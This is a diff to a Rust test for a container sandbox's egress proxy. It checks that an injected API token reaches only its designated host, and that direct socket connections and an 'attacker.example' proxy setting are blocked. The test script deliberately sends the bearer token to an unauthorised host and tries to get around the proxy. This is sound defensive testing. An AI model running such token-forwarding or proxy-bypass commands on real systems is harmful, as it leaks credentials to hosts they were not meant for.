@@ -288,15 +288,28 @@ fn engine_container_reaches_only_the_allowed_host_through_the_proxy() {
     let _serial = serial();
     let images = engine_images();
     assert!(is_root(), "the engine suites run as root (.ci/run)");
-    let up = egress_common::Upstream::start();
+    let mut up = egress_common::Upstream::start();
+    let other = format!("other-{}.strata-test.example", std::process::id());
+    up.alias(&other, &up.ip.to_string());
     let rule = format!("{}:{}", up.name, egress_common::HTTP_PORT);
-    let caps = caps(&images.python_archive(), DOCKER)
-        .net(format!("allow:{rule}").parse().expect("net"))
+    let mut caps = caps(&images.python_archive(), DOCKER)
+        .net(
+            format!("allow:{rule},{other}:{}", egress_common::HTTP_PORT)
+                .parse()
+                .expect("net"),
+        )
         .env("HTTP_PROXY", "http://attacker.example:1");
+    caps.secrets.push(strata::Secret {
+        env: "API_TOKEN".into(),
+        value: egress_common::SECRET.into(),
+        hosts: vec![up.name.clone()],
+    });
     // busybox wget follows http_proxy with the run's credential; python3 tries to go
     // around the proxy, to the upstream's address and to a public resolver.
     let script = format!(
         "wget -q -O - {ok}; echo; wget -q -O - http://example.com/ 2>&1 || echo refused; \
+         for h in {name} {other}; do wget -q -O - --header \"Authorization: Bearer $API_TOKEN\" \
+         http://$h:{port}/auth; echo; done; test -s /etc/strata/ca-bundle.pem && echo trusted; \
          python3 -c 'import socket\n\
          for a in [(\"{ip}\", {port}), (\"8.8.8.8\", 53)]:\n\
          \x20   s = socket.socket(); s.settimeout(5)\n\
@@ -307,6 +320,7 @@ fn engine_container_reaches_only_the_allowed_host_through_the_proxy() {
         ok = up.http_url("hello"),
         ip = up.ip,
         port = egress_common::HTTP_PORT,
+        name = up.name,
     );
     let out = run(&Tool::command(["/bin/sh", "-c", &script]), &caps);
     let text = stdout(&out);
@@ -316,6 +330,11 @@ fn engine_container_reaches_only_the_allowed_host_through_the_proxy() {
         String::from_utf8_lossy(&out.stderr)
     );
     assert!(text.contains("refused"), "{text}");
+    assert!(
+        text.contains("auth ok\nauth bad\ntrusted"),
+        "the secret goes to its host only: {text}"
+    );
+    assert!(!text.contains(egress_common::SECRET));
     assert_eq!(
         text.matches("direct 101").count(),
         2,
@@ -331,6 +350,12 @@ fn engine_container_reaches_only_the_allowed_host_through_the_proxy() {
     assert_eq!(net.decisions[0].rule.as_deref(), Some(rule.as_str()));
     assert_eq!(net.decisions[1].host, "example.com");
     assert!(!net.decisions[1].allowed);
+    assert!(
+        net.decisions
+            .iter()
+            .any(|d| d.secrets == ["API_TOKEN"] && d.host == up.name),
+        "{net:?}"
+    );
     // The tool's container and its network holder are both gone.
     assert!(
         leftover_containers().is_empty(),
